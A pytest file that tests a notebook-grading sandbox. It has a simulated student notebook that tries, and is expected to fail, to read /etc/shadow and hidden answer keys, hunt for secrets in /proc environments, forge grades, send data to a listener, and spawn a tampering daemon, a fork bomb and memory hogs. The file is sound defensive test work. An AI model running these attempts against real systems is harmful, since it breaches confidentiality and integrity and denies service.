"""A mischievous student under `--execute`: every attack of the security review fails.

One run grades Mallory, whose exercise notebook tries what the review's attack script did
(review-security.md, rows 3.3 to 3.10) before doing the exercise honestly, and two honest
classmates. Each attempt must fail or be killed, Mallory's own answers must still be graded
as they are, the classmates must keep their grades, nothing outside the job's scratch may
change, and no process of the job may survive it.
"""

import csv
import hashlib
import io
import json
import os
import socket
import threading
import time
from pathlib import Path

import pytest

from diplomatic_cover.answers.identity import Student
from diplomatic_cover.grading import grade
from diplomatic_cover.grading.execute import ExecuteSettings, Executor
from diplomatic_cover.grading.sandbox.bubblewrap import FIRST_UID
from tests.grading.kit import ROOT, correct, hand_in, notebook, solved_cells

pytestmark = [pytest.mark.long, pytest.mark.usefixtures("sandbox")]

CONFIG = """
[assignment.ex1_pandas_record]
title = "Exercise 1"
checks = {"ex1.by-decade" = 2, "ex1.largest-waves" = 2, "ex1.ratios" = 3, "ex1.median-days" = 2}
"""
CHECKS = ("ex1.by-decade", "ex1.largest-waves", "ex1.ratios", "ex1.median-days")
EX1 = "ex1_pandas_record"

# Each attempt runs through `attempt`, which records how it ended. Paths come from the test.
SETUP = """
import os, signal, socket, time
seen = {}

def attempt(name, action):
    try:
        seen[name] = "succeeded: " + repr(action())[:200]
    except BaseException as error:
        seen[name] = "failed: " + type(error).__name__

def find(text, places):
    hits = []
    for place in places:
        try:
            if text in open(place, errors="replace").read():
                hits.append(place)
        except OSError:
            pass
    if not hits:
        raise LookupError("nowhere")
    return hits

procs = [p for p in os.listdir("/proc") if p.isdigit()]
"""
READS = """
attempt("read /etc/shadow", lambda: open("/etc/shadow").read())
attempt("list /root", lambda: os.listdir("/root"))
attempt("list the open kit's instructors/", lambda: os.listdir(KIT + "/instructors"))
PACKAGE = KIT + "/src/diplomatic_cover"
attempt("read the hidden checks", lambda: open(PACKAGE + "/instructor/hidden_checks.py").read())
attempt("import the hidden checks", lambda: __import__("diplomatic_cover.instructor.hidden_checks"))
attempt("read the answer key", lambda: os.listdir(PACKAGE + "/questions/answer_key"))
attempt("list the submissions", lambda: os.listdir(SUBMISSIONS))
attempt("read a classmate's zip", lambda: open(SUBMISSIONS + "/submission-bob.zip", "rb").read())
attempt("list the --out folder", lambda: os.listdir(OUT))
environs = [f"/proc/{p}/environ" for p in procs]
attempt("find the secret in any environment", lambda: find("INSTRUCTOR_SECRET", environs))
cmdlines = [f"/proc/{p}/cmdline" for p in procs]
attempt("find the grader's command line", lambda: find(OUT, cmdlines))
"""
WRITES = """
attempt("write into the --out folder", lambda: open(OUT + "/grades.csv", "a").write("forged"))
attempt("write a manual score", lambda: os.mkdir(OUT + "/manual"))
attempt("write into the class copy", lambda: open("/kit/README.md", "a").write("#"))
attempt("write into the interpreter", lambda: open("/opt/dc/python/lib/os.py", "a").write("#"))
attempt("write at the root", lambda: open("/backdoor.py", "w").write("x"))
attempt("write into the open kit", lambda: open(PACKAGE + "/checks.py", "a").write("#"))
attempt("write into the canary", lambda: open(CANARY + "/canary.txt", "a").write("x"))
"""
NETWORK = """
def send():
    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"leak")

attempt("send to the grader's machine", send)
attempt("reach the internet", lambda: socket.create_connection(("1.1.1.1", 53), timeout=3))
"""
PROCESSES = """
# A detached daemon that would tamper with the grades after the run (review row 3.5-3.6).
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 120
        while time.time() < end:
            for target in (OUT + "/TAMPERED", CANARY + "/TAMPERED", "/work/TAMPERED"):
                try:
                    open(target, "w").write("daemon")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
os.waitpid(pid, 0)
seen["daemon"] = "started"

children = []
try:
    for _ in range(500):
        child = os.fork()
        if child == 0:
            time.sleep(600)
            os._exit(0)
        children.append(child)
    seen["fork 500 processes"] = "succeeded"
except OSError as error:
    seen["fork 500 processes"] = f"failed after {len(children)}: {type(error).__name__}"
for child in children:
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)

# Stop or kill the process that reports the results (review row 3.9).
for number in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(os.getppid(), number)
    except OSError as error:
        seen[f"signal the runner ({number.name})"] = type(error).__name__
"""
MEMORY = """
attempt("allocate past the limit in this process", lambda: len(b"x" * 3_000_000_000))
hogs = []
for _ in range(4):  # 4 x 400 MB in children, against 1,536 MB for the whole job
    child = os.fork()
    if child == 0:
        try:
            hog = [b"x" * 50_000_000 for _ in range(8)]
            time.sleep(3)  # all four hold their memory at once
        except MemoryError:
            os._exit(3)
        os._exit(0)
    hogs.append(child)
ends = [os.waitpid(child, 0)[1] for child in hogs]
seen["memory hogs"] = sorted(
    "killed" if os.WIFSIGNALED(end) else f"exit {os.WEXITSTATUS(end)}" for end in ends
)
"""
REPORT = """
from diplomatic_cover.answers.identity import current_student
from diplomatic_cover.answers.store import ResponseStore
ResponseStore().save_check(current_student(), "ex9", "ex9.attacks", seen, passed=None)
"""


def snapshot(*folders):
    """Every file under `folders` with its hash (what must not change)."""
    found = {}
    for folder in folders:
        for path in sorted(Path(folder).rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def sandbox_processes(wait=5.0):
    """Host processes (zombies included) running as a uid the sandbox hands out.

    A killed process may show for a moment while its parent collects it; it must be gone
    within `wait` seconds.
    """
    deadline = time.monotonic() + wait
    while True:
        found = []
        for entry in Path("/proc").iterdir():
            try:
                if entry.name.isdigit() and entry.stat().st_uid >= FIRST_UID:
                    found.append((entry.name, (entry / "status").read_text().splitlines()[2]))
            except (OSError, IndexError):
                continue
        if not found or time.monotonic() > deadline:
            return found
        time.sleep(0.1)


def our_cgroups():
    prefix = f"job-{os.getpid()}-"
    return [
        group
        for hierarchy in ("memory", "pids")
        for group in Path(f"/sys/fs/cgroup/{hierarchy}/diplomatic-cover").glob(prefix + "*")
    ]


class Listener:
    """A TCP server on the grader's machine that records anything sent to it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.received.append(connection.recv(1 << 16))
            connection.close()

    def close(self):
        self.server.close()


@pytest.fixture
def spy(monkeypatch):
    """What each job reported, kept as the real `run_submission` returns it."""
    reports = {}
    real = Executor.run_submission

    def run_submission(self, student_id, student_name, notebooks):
        reports["cache"] = self.cache
        reports[student_id] = results = real(self, student_id, student_name, notebooks)
        return results

    monkeypatch.setattr(Executor, "run_submission", run_submission)
    return reports


def mallory_notebook(tmp_path, port):
    values = {
        "KIT": str(ROOT),
        "SUBMISSIONS": str(tmp_path / "submissions"),
        "OUT": str(tmp_path / "grades"),
        "CANARY": str(tmp_path / "canary"),
        "PORT": port,
    }
    constants = "\n".join(f"{name} = {value!r}" for name, value in values.items())
    attacks = [SETUP + constants, READS, WRITES, NETWORK, PROCESSES, MEMORY]
    return notebook(*attacks, *solved_cells("ex1_pandas_record"), REPORT)


def test_every_attack_fails_and_grades_stay_right(tmp_path, monkeypatch, spy):
    monkeypatch.setenv("INSTRUCTOR_SECRET", "hunter2-canvas-api-token")
    (tmp_path / "canary").mkdir()
    (tmp_path / "canary" / "canary.txt").write_text("untouched")
    config = tmp_path / "grading.toml"
    config.write_text(CONFIG)
    listener = Listener()
    right = {check_id: correct(check_id) for check_id in CHECKS}
    honest = {"ex1_pandas_record": notebook(*solved_cells("ex1_pandas_record"))}
    hand_in(
        tmp_path,
        Student("mallory", "Mallory"),
        checks=right,
        notebooks={"ex1_pandas_record": mallory_notebook(tmp_path, listener.port)},
    )
    for name in ("bob", "carol"):
        hand_in(tmp_path, Student(name, name.title()), checks=right, notebooks=honest)
    before = snapshot(tmp_path / "submissions", tmp_path / "canary", ROOT / "instructors",
                      ROOT / "src", ROOT / "data")  # fmt: skip
    try:
        summary = grade(
            submissions=tmp_path / "submissions",
            out=tmp_path / "grades",
            config=config,
            execute=True,
            cell_timeout=30,
            memory_mb=1536,
        )
    finally:
        listener.close()

    seen = spy["mallory"]["ex1_pandas_record"].checks["ex9.attacks"]["value"]
    attempts = {k: v for k, v in seen.items() if k not in ("daemon", "memory hogs")}
    assert all(v.startswith("failed") for v in attempts.values()), attempts
    assert seen["daemon"] == "started"
    assert seen["fork 500 processes"].startswith("failed after")
    assert int(seen["fork 500 processes"].split()[2].rstrip(":")) < 100
    assert "killed" in seen["memory hogs"], seen["memory hogs"]  # the cgroup's OOM killer
    assert listener.received == []

    text = (tmp_path / "grades" / "grades.csv").read_text(encoding="utf-8-sig")
    rows = {row["student"]: row for row in csv.DictReader(io.StringIO(text))}
    for name in ("mallory", "bob", "carol"):
        assert rows[name]["total"] == "9", (name, rows[name])
        assert rows[name]["flags"] == "", (name, rows[name]["flags"])
    assert summary.flagged == 0 and not summary.unisolated
    assert "forged" not in text
    assert not (tmp_path / "grades" / "TAMPERED").exists()
    assert not (tmp_path / "grades" / "manual" / "mallory").exists()

    assert snapshot(tmp_path / "submissions", tmp_path / "canary", ROOT / "instructors",
                    ROOT / "src", ROOT / "data") == before  # fmt: skip
    assert sandbox_processes() == []  # the daemon and the sleeping children are gone
    assert our_cgroups() == []
    assert not spy["cache"].exists()  # the run's cache, class copy included, is removed


def test_writing_the_store_directly_gains_nothing_over_check():
    mistake = json.dumps(correct("ex1.ratios") | {"name": "forged"})
    by_check = notebook(
        "from diplomatic_cover.checks import check\n"
        f"check('ex1.ratios', __import__('json').loads({mistake!r}))"
    )
    by_hand = notebook(
        "import json, os\n"
        "folder = os.path.join(os.environ['DIPLOMATIC_COVER_RESPONSES'], 'mallory')\n"
        "os.makedirs(folder, exist_ok=True)\n"
        f"value = json.loads({mistake!r})\n"
        "entry = {'value': value, 'passed': True, 'points': 99, 'saved_at': '9999-12-31'}\n"
        "document = {'checks': {'ex1.ratios': entry}, 'graded': True}\n"
        "open(os.path.join(folder, 'ex1_pandas_record.json'), 'w').write(json.dumps(document))\n"
    )
    with Executor(ExecuteSettings(cell_timeout=20)) as executor:
        honest = executor.run("mallory", "Mallory", EX1, json.dumps(by_check).encode())
        forged = executor.run("mallory", "Mallory", EX1, json.dumps(by_hand).encode())
    # Only the value is kept; `passed`, points or anything else written beside it is dropped.
    assert forged.checks["ex1.ratios"] == {"value": honest.checks["ex1.ratios"]["value"],
                                           "saved_at": "9999-12-31"}  # fmt: skip


def test_a_report_too_large_is_refused_and_costs_only_its_student():
    flood = notebook(
        "import json, os\n"
        "folder = os.path.join(os.environ['DIPLOMATIC_COVER_RESPONSES'], 'mallory')\n"
        "os.makedirs(folder, exist_ok=True)\n"
        "document = {'checks': {'ex1.ratios': {'value': 'x' * 40_000_000, 'saved_at': '1'}}}\n"
        "open(os.path.join(folder, 'ex1_pandas_record.json'), 'w').write(json.dumps(document))"
    )
    honest = notebook("from diplomatic_cover.checks import check\ncheck('ex1.ratios', 1)")
    with Executor(ExecuteSettings(cell_timeout=20, report_mb=16)) as executor:
        flooded = executor.run("mallory", "Mallory", EX1, json.dumps(flood).encode())
        fine = executor.run("bob", "Bob", EX1, json.dumps(honest).encode())
    assert "report was refused" in flooded.problem and flooded.checks == {}
    assert fine.problem == "" and fine.checks["ex1.ratios"]["value"] == 1
